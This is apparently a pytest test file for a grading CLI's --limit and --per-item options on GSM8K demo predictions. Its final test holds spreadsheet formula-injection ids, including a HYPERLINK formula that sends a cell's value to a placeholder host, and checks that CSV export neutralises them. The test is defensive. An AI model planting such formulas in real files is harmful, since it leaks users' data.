"""`python -m tracevote grade --limit N` and `--per-item FILE` as processes on the demo GSM8K files: the first N
predictions and their gold only (the summary says so), one row per item as JSON lines or CSV (the same rows),
the critic's verdicts in them (its CLI ledger ignored by git), and a bad extension refused before anything is
graded or written."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import REPO_ROOT
from tests.dvcproject import run
from tests.grading.test_cli import grade, predictions_for_gsm8k, sim_project
from tracevote.cli.demo import BUILTIN_GSM8K
from tracevote.core.csvtext import read_cell
from tracevote.grading.items import ItemRow

ROW_KEYS = [
    "id", "line", "gold", "answer", "correct", "method", "reasoning_words", "reasoning_chars", "critic_score", "critic",
    "critic_simulated"]


def gold_by_hand() -> dict[str, str]:
    """gsm8k_test_<row> -> the number after the row's '####' (the demo GSM8K file, 8 rows)."""
    rows = [json.loads(line) for line in BUILTIN_GSM8K.read_text().splitlines()]
    return {f"gsm8k_test_{index}": row["answer"].rsplit("####", 1)[1].strip() for index, row in enumerate(rows)}


def predictions_by_hand(path: Path) -> list[dict[str, Any]]:
    """The file's predictions in file order, each with whether its last number after '####' is the gold's."""
    gold = gold_by_hand()
    predictions = [json.loads(line) for line in path.read_text().splitlines()]
    for prediction in predictions:
        numbers = re.findall(r"\d+", prediction["content"].rsplit("####", 1)[1])
        prediction["right"] = numbers[-1:] == [gold[prediction["id"]]]
    return predictions


PER_ITEM_NAMES = ["rows.jsonl", "rows.csv", "ROWS.CSV"]


@pytest.fixture(scope="module")
def predictions(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo predictions under GSM8K's ids, in a folder of their own: 7 in reverse gold order, gsm8k_test_6
    without one."""
    return predictions_for_gsm8k(tmp_path_factory.mktemp("graded"))


def whole_args(predictions: Path) -> tuple[str, ...]:
    return "--dataset", "gsm8k", "--pred-path", str(predictions), "--gold", str(BUILTIN_GSM8K)


@pytest.fixture(scope="module")
def graded_whole(predictions: Path) -> subprocess.CompletedProcess:
    """The whole file graded, --json: what a limit is checked against."""
    return grade(predictions.parent, *whole_args(predictions), "--json")


@pytest.fixture(scope="module")
def graded_per_item(predictions: Path) -> dict[str, tuple[subprocess.CompletedProcess, Path]]:
    """The whole file graded once with each --per-item name (in a folder not there yet: it is made): the run and
    the file, by name."""
    runs = {}
    for index, name in enumerate(PER_ITEM_NAMES):
        out = predictions.parent / f"out-{index}" / name
        runs[name] = grade(predictions.parent, *whole_args(predictions), "--per-item", str(out)), out
    return runs


def test_limit_grades_the_first_predictions_and_their_gold_only(
        tmp_path: Path, predictions: Path, graded_whole: subprocess.CompletedProcess) -> None:
    path = predictions  # 7 predictions in reverse gold order; gsm8k_test_6 has none
    first = predictions_by_hand(path)[:3]
    right = sum(prediction["right"] for prediction in first)
    args = ("--dataset", "gsm8k", "--pred-path", str(path), "--gold", str(BUILTIN_GSM8K), "--limit", "3")
    plain, as_json = grade(tmp_path, *args), grade(tmp_path, *args, "--json")
    assert plain.returncode == 0 and as_json.returncode == 0, plain.stderr + as_json.stderr
    assert plain.stdout.splitlines()[:2] == ["Loaded 3 gold samples!", f"Accuracy: {right / 3:.4f}  ({right}/3)"]
    assert "note: --limit 3: graded the first 3 of 7 predictions, against their 3 gold items (of 8)" in plain.stdout
    assert "have no prediction" not in plain.stdout  # the items left out are not counted as missing
    summary = json.loads(as_json.stdout)
    assert (summary["correct"], summary["total"], summary["missing"]) == (right, 3, 0)
    assert summary["limited"] == {"limit": 3, "predictions": 7, "kept_predictions": 3, "gold_items": 8,
                                  "kept_gold": 3}
    unlimited = json.loads(graded_whole.stdout)
    assert unlimited["limited"] is None and unlimited["total"] == 8


def test_a_limit_past_the_file_grades_it_whole(tmp_path: Path, predictions: Path,
                                               graded_whole: subprocess.CompletedProcess) -> None:
    args = whole_args(predictions)
    limited, whole = grade(tmp_path, *args, "--limit", "100", "--json"), graded_whole
    summary = json.loads(limited.stdout)
    assert summary.pop("limited") == {"limit": 100, "predictions": 7, "kept_predictions": 7, "gold_items": 8,
                                      "kept_gold": 7}
    assert summary["total"] == 7 and json.loads(whole.stdout)["total"] == 8  # only gold items predicted count


CSV_TYPES: dict[str, Any] = {"line": int, "reasoning_words": int, "reasoning_chars": int, "critic_score": float,
                             "correct": {"True": True, "False": False}.__getitem__,
                             "critic_simulated": {"True": True, "False": False}.__getitem__}


def read_rows(path: Path) -> list[dict[str, Any]]:
    """JSON lines as they are; CSV cells typed back as ItemRow's fields (an empty cell is None, but an empty
    answer is "" unless the item has no prediction)."""
    if path.suffix.lower() == ".jsonl":
        return [json.loads(line) for line in path.read_text().splitlines()]
    with open(path, newline="", encoding="utf-8") as handle:
        rows = [{key: None if cell == "" else CSV_TYPES.get(key, str)(cell) for key, cell in row.items()}
                for row in csv.DictReader(handle)]
    return [{**row, "answer": row["answer"] or (None if row["method"] == "missing" else "")} for row in rows]


@pytest.mark.parametrize("name", PER_ITEM_NAMES)
def test_per_item_writes_one_row_per_gold_item_in_gold_order(
        predictions: Path, graded_per_item: dict[str, tuple[subprocess.CompletedProcess, Path]], name: str) -> None:
    path = predictions
    result, out = graded_per_item[name]  # its folder is made
    assert result.returncode == 0, result.stderr
    rows = read_rows(out)
    gold = gold_by_hand()
    assert [row["id"] for row in rows] == list(gold) and all(list(row) == ROW_KEYS for row in rows)
    by_id = {prediction["id"]: (line, prediction) for line, prediction in enumerate(predictions_by_hand(path), 1)}
    for row in rows:
        assert row["gold"] == gold[row["id"]] and row["critic"] == "off" and row["critic_score"] is None
        assert row["critic_simulated"] is False
        if row["id"] not in by_id:  # gsm8k_test_6: no prediction, counted wrong
            assert (row["line"], row["answer"], row["correct"], row["method"]) == (None, None, False, "missing")
            continue
        line, prediction = by_id[row["id"]]
        assert (row["line"], row["correct"], row["method"]) == (line, prediction["right"], "math_verify")
        assert row["reasoning_words"] == len(prediction["thinking"].split())
        assert row["reasoning_chars"] == len(prediction["thinking"])
    assert sum(row["correct"] for row in rows) == 4  # as the summary's Accuracy line: 4/8
    assert "Accuracy: 0.5000  (4/8)" in result.stdout


def test_csv_and_jsonl_hold_the_same_rows(graded_per_item: dict[str, tuple[subprocess.CompletedProcess, Path]]) -> None:
    (as_jsonl, jsonl), (as_csv, csv_path) = graded_per_item["rows.jsonl"], graded_per_item["rows.csv"]
    assert as_jsonl.returncode == 0 and as_csv.returncode == 0
    assert read_rows(jsonl) == read_rows(csv_path)
    assert [ItemRow(**row) for row in read_rows(csv_path)]  # every row reads back as the record


@pytest.mark.parametrize(("name", "named"), [("rows.txt", "'.txt'"), ("rows", "'(none)'"), ("rows.json", "'.json'")])
def test_a_per_item_file_of_another_kind_is_refused_before_grading(tmp_path: Path, name: str, named: str) -> None:
    out = tmp_path / name
    result = grade(tmp_path, "--dataset", "gsm8k", "--pred-path", str(predictions_for_gsm8k(tmp_path)),
                   "--gold", str(BUILTIN_GSM8K), "--per-item", str(out))
    assert result.returncode == 2 and result.stdout == "" and "Traceback" not in result.stderr
    assert result.stderr.strip() == (f"error: --per-item {out}: unknown extension {named}; name a .jsonl file "
                                     f"(JSON lines) or a .csv file")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["preds.jsonl"]  # nothing written


def test_a_limit_below_one_is_an_argument_error(tmp_path: Path) -> None:
    result = grade(tmp_path, "--dataset", "gsm8k", "--pred-path", "p.jsonl", "--limit", "0")
    assert result.returncode == 2
    assert "argument --limit: 0 is not a number of predictions (an integer >= 1)" in result.stderr


def test_per_item_rows_carry_the_critics_verdicts(tmp_path: Path) -> None:
    project = sim_project(tmp_path)
    shutil.copy(REPO_ROOT / ".gitignore", project / ".gitignore")  # a project made from this repository
    run(project, "git", "init", "-q")
    out = tmp_path / "rows.jsonl"
    result = grade(project, "--dataset", "gsm8k", "--pred-path", str(predictions_for_gsm8k(tmp_path)),
                   "--enable-critic", "--critic-max-samples", "3", "--limit", "5", "--per-item", str(out), "--json")
    assert result.returncode == 0, result.stderr
    # the critic's ledger (grading/critic/cli by default) is on disk, and git sees none of it
    assert any((project / "grading" / "critic" / "cli").rglob("*.tvf"))
    untracked = run(project, "git", "status", "--porcelain", "--untracked-files=all").stdout.splitlines()
    assert [line for line in untracked if "grading/" in line] == []
    summary = json.loads(result.stdout)
    rows = read_rows(out)
    asked = [row for row in rows if row["critic"] in ("scored", "unparsable")]
    assert all(row["critic_simulated"] is True for row in rows)  # the simulated critic says so on every row
    # the critic asks about the first 3 gold items (in gold order) of the 5 predictions graded
    assert [row["id"] for row in asked] == [row["id"] for row in rows][:3] and len(rows) == 5
    assert all(row["critic"] == "not asked" and row["critic_score"] is None for row in rows[3:])
    scores = [row["critic_score"] for row in asked if row["critic"] == "scored"]
    assert len(scores) == summary["critic_scored"] and all(1.0 <= score <= 5.0 for score in scores)
    if scores:
        assert summary["critic_score"] == pytest.approx(sum(scores) / len(scores))


# ids a third party's predictions file may hold, each a formula to a spreadsheet, and gold answers too; "-2", "-3",
# "+4" are numbers to a spreadsheet and stay as they are
FORMULA_IDS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
               "-2", "'quoted"]
FORMULA_GOLD = ["-3", "-\\frac{1}{2}", "7", "=1", "+4", "@", "-2", "5"]


def test_per_item_csv_neutralises_formula_cells_and_jsonl_keeps_them_exact(tmp_path: Path) -> None:
    gold = tmp_path / "gold.jsonl"
    gold.write_text("".join(json.dumps({"id": item, "problem": f"problem {index}", "answer": answer}) + "\n"
                            for index, (item, answer) in enumerate(zip(FORMULA_IDS, FORMULA_GOLD, strict=True))))
    predictions = tmp_path / "preds.jsonl"
    predictions.write_text("".join(json.dumps({"id": item, "thinking": "so", "content": f"\\boxed{{{answer}}}"}) + "\n"
                                   for item, answer in zip(FORMULA_IDS, FORMULA_GOLD, strict=True)))
    args = ("--dataset", "math500", "--pred-path", str(predictions), "--gold", str(gold))
    for name in ("rows.jsonl", "rows.csv"):
        result = grade(tmp_path, *args, "--per-item", str(tmp_path / name))
        assert result.returncode == 0, result.stderr
    exact = read_rows(tmp_path / "rows.jsonl")
    assert [row["id"] for row in exact] == FORMULA_IDS and [row["gold"] for row in exact] == FORMULA_GOLD
    with open(tmp_path / "rows.csv", newline="", encoding="utf-8") as handle:
        cells = list(csv.DictReader(handle))
    assert [row["id"] for row in cells] == ['\'=HYPERLINK("http://example.invalid/?leak="&A1,"open")', "'+1+2",
                                            "'-2+3", "'@SUM(A1:A9)", "'\tx", "'\rx", "-2", "''quoted"]
    assert [row["gold"] for row in cells] == ["-3", "'-\\frac{1}{2}", "7", "'=1", "+4", "'@", "-2", "5"]
    for row, cell_row in zip(exact, cells, strict=True):  # every text cell reads back as the JSON line has it
        assert {key: read_cell(cell) for key, cell in cell_row.items() if isinstance(row[key], str)} == {
            key: value for key, value in row.items() if isinstance(value, str)}
